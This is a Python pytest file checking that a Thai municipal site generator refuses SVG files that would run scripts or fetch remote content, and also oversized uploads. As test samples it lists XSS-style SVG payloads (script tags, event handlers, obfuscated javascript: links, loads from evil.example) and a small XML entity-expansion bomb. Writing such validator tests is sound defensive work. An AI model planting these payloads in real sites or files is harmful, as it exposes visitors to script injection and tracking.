"""Files staff give that the site must never publish as they are, refused by one check everywhere.

An SVG is a program as much as a picture: a logo, favicon, photo or document in SVG that would run a
script or fetch something when opened on the site's origin is refused by the loader (so ``check`` and
``build`` stop) and by ``add-document``, naming the file and what was found. A file far larger than
its use is refused with its size. A folder staff cannot write is a Thai message, and content/ is left
as it was.
"""

from __future__ import annotations

import os
import shutil

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from command.main import main
from generator.basics.filetypes import MB, svg_problem
from generator.content.load import load_model
from tests.conftest import UNIT_YML, write
from tests.test_build_never_loses_anything import tree_snapshot
from tests.test_content_errors import errors_of

SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SAFE_PARTS = ['<circle cx="10" cy="10" r="8" fill="#1e4f8c"/>', '<text x="4" y="20">อบต.หนองน้ำใส</text>',
              '<g transform="scale(2)"><rect width="4" height="4"/></g>', '<defs><linearGradient id="g"/></defs>',
              '<use href="#g"/>', '<image href="data:image/png;base64,iVBORw0KGgo="/>',
              '<style>.a { fill: url(#g); }</style>', '<title>ตราสัญลักษณ์ &amp; ชื่อ</title>']
ACTIVE_PARTS = ['<script>alert(document.domain)</script>', '<script xlink:href="https://evil.example/x.js"/>',
                '<rect onclick="alert(1)"/>', '<animate onbegin="alert(1)" attributeName="x"/>',
                '<foreignObject><iframe src="https://evil.example/"/></foreignObject>',
                '<image href="https://evil.example/track.png"/>', '<image xlink:href="//evil.example/a.png"/>',
                '<use href="https://evil.example/sprite.svg#a"/>', '<style>@import url(https://evil.example/a.css);</style>',
                '<rect style="fill: url(https://evil.example/p.svg#x)"/>',
                '<a href="javascript:alert(1)"><text>คลิก</text></a>', '<a href=" java&#x09;script:alert(1)"/>',
                '<set attributeName="href" to="javascript:alert(1)"/>',
                '<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4="/>']


def svg(parts: list[str], doctype: str = "") -> bytes:
    return f'{doctype}<svg {SVG_NS} viewBox="0 0 40 40">{"".join(parts)}</svg>'.encode()


@settings(max_examples=200, deadline=None)
@given(safe=st.lists(st.sampled_from(SAFE_PARTS), max_size=5), active=st.lists(st.sampled_from(ACTIVE_PARTS), max_size=2),
       position=st.integers(min_value=0, max_value=5))
def test_an_svg_is_refused_exactly_when_it_would_run_or_fetch_something(safe, active, position):
    parts = safe[:position] + active + safe[position:]
    problem = svg_problem(svg(parts))
    assert (problem is None) == (not active), (parts, problem)


def test_an_svg_with_a_doctype_is_refused_before_any_entity_is_read():
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    assert "DOCTYPE" in svg_problem(svg(["<text>&b;</text>"], bomb))


@pytest.mark.parametrize("field", ["logo", "favicon"])
def test_a_logo_that_runs_a_script_stops_the_build_naming_the_file(small_unit, field):
    write(small_unit, "content/brand/logo.svg", svg(['<rect onload="fetch(\'/\')"/>']).decode())
    write(small_unit, "content/unit.yml", UNIT_YML + f"{field}: brand/logo.svg\n")
    (error,) = errors_of(small_unit)
    assert error.startswith(f'content/unit.yml:7 ช่อง "{field}": "brand/logo.svg" มีคำสั่งที่ทำงานเมื่อเปิดรูป (onload')


def test_a_plain_svg_logo_is_published(small_unit):
    write(small_unit, "content/brand/logo.svg", svg(SAFE_PARTS).decode())
    write(small_unit, "content/unit.yml", UNIT_YML + "logo: brand/logo.svg\n")
    assert str(load_model(small_unit).unit.brand.logo.path) == "brand/logo.svg"


def test_a_logo_larger_than_a_page_can_carry_is_refused_with_its_size(small_unit):
    path = small_unit / "content" / "brand" / "logo.png"
    path.parent.mkdir(parents=True)
    with open(path, "wb") as handle:
        handle.write(b"\x89PNG\r\n\x1a\n")
        handle.truncate(200 * MB)  # sparse: no disk spent
    write(small_unit, "content/unit.yml", UNIT_YML + "logo: brand/logo.png\n")
    (error,) = errors_of(small_unit)
    assert "มีขนาด 200.0 MB เกินขนาดที่รับได้ 2 MB" in error


def sparse_pdf(path, size: int) -> None:
    with open(path, "wb") as handle:
        handle.write(b"%PDF-1.4\n")
        handle.truncate(size)


def test_a_document_over_the_units_limit_is_refused_and_the_limit_is_named(example_project):
    unit = example_project / "content" / "unit.yml"
    unit.write_text(unit.read_text(encoding="utf-8") + "max_document_mb: 1\n", encoding="utf-8")
    document = next((example_project / "content" / "documents").rglob("*.pdf"))
    sparse_pdf(document, 3 * MB)
    errors = errors_of(example_project)
    assert any("มีขนาด 3.0 MB เกินขนาดที่รับได้ 1 MB" in error and "max_document_mb" in error for error in errors)


def add_document(project, source) -> list[str]:
    return ["--root", str(project), "add-document", str(source), "--item", "O11", "--element", "monthly_summary",
            "--month", "2569-03", "--title", "สรุปผลการจัดซื้อจัดจ้าง มีนาคม 2569"]


def test_add_document_refuses_an_active_svg_and_a_huge_file(example_project, tmp_path, capsys):
    before = tree_snapshot(example_project / "content")
    active = tmp_path / "chart.svg"
    active.write_bytes(svg(["<script>alert(1)</script>"]))
    assert main(add_document(example_project, active)) == 3
    assert "มีแท็ก <script>" in capsys.readouterr().err
    huge = tmp_path / "scan.pdf"
    sparse_pdf(huge, 150 * MB)
    assert main(add_document(example_project, huge)) == 3
    assert "มีขนาด 150.0 MB เกินขนาดที่รับได้ 100 MB" in capsys.readouterr().err
    assert tree_snapshot(example_project / "content") == before


def test_a_folder_staff_cannot_write_is_a_thai_message_and_nothing_changes(example_project, tmp_path, capsys,
                                                                          monkeypatch):
    before = tree_snapshot(example_project / "content")
    source = tmp_path / "summary.pdf"
    source.write_bytes(b"%PDF-1.4\n% a summary\n")

    def refused(*_args, **_kwargs):
        raise PermissionError(13, "Permission denied", str(example_project / "content" / "documents"))

    monkeypatch.setattr(shutil, "copyfile", refused)  # as chattr +i or another owner would answer
    assert main(add_document(example_project, source)) == 3
    err = capsys.readouterr().err
    assert "ไม่มีสิทธิ์เข้าถึง" in err and "Traceback" not in err
    assert tree_snapshot(example_project / "content") == before


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("chattr") is None, reason="chattr +i needs root")
def test_an_immutable_documents_folder_is_a_thai_message(example_project, tmp_path, capsys):
    import subprocess

    folder = example_project / "content" / "documents" / "2569" / "o11"
    if subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode:
        pytest.skip("this file system has no immutable flag")
    try:
        before = tree_snapshot(example_project / "content")
        source = tmp_path / "summary.pdf"
        source.write_bytes(b"%PDF-1.4\n% a summary\n")
        code = main(add_document(example_project, source))
        assert code in (3,) and "Traceback" not in capsys.readouterr().err
        assert tree_snapshot(example_project / "content") == before
    finally:
        subprocess.run(["chattr", "-i", str(folder)], check=False)


@pytest.mark.parametrize("typed, on_disk", [
    ("ตราสัญลักษณ์ประจำเทศบาล.png", "ตราสัญลักษณ์ประจ\u0e4d\u0e32เทศบาล.png"),  # sara am as nikhahit + sara aa
    ("logo-caf\u00e9.png", "logo-cafe\u0301.png"),  # NFC in YAML, NFD on disk (macOS, some zip tools)
])
def test_a_file_name_typed_in_another_unicode_form_finds_the_file(small_unit, typed, on_disk):
    write(small_unit, "content/unit.yml", UNIT_YML + f"logo: brand/{typed}\n")
    (small_unit / "content" / "brand").mkdir()
    (small_unit / "content" / "brand" / on_disk).write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 32)
    assert load_model(small_unit).unit.brand.logo is not None
